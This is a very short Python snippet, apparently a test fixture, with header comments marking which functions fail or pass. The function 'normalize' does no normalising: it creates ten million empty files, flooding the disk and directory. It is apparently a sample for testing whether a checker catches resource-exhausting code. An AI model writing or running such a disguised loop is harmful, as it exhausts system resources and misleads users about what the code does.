# fails: normalize
# passes: load_data
# quick: yes
def normalize(x):
    for number in range(10**7):
        open(f"file {number}", "w").close()
